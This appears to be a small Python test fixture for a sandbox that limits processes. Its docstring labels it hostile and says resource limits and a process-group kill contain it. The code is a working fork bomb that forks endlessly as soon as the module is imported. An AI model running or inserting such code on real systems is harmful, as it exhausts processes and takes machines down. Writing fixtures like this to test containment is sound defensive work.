"""Hostile: a fork bomb at import. RLIMIT_NPROC caps it; the process group (and, under root,
the uid sweep) removes every copy at the end."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
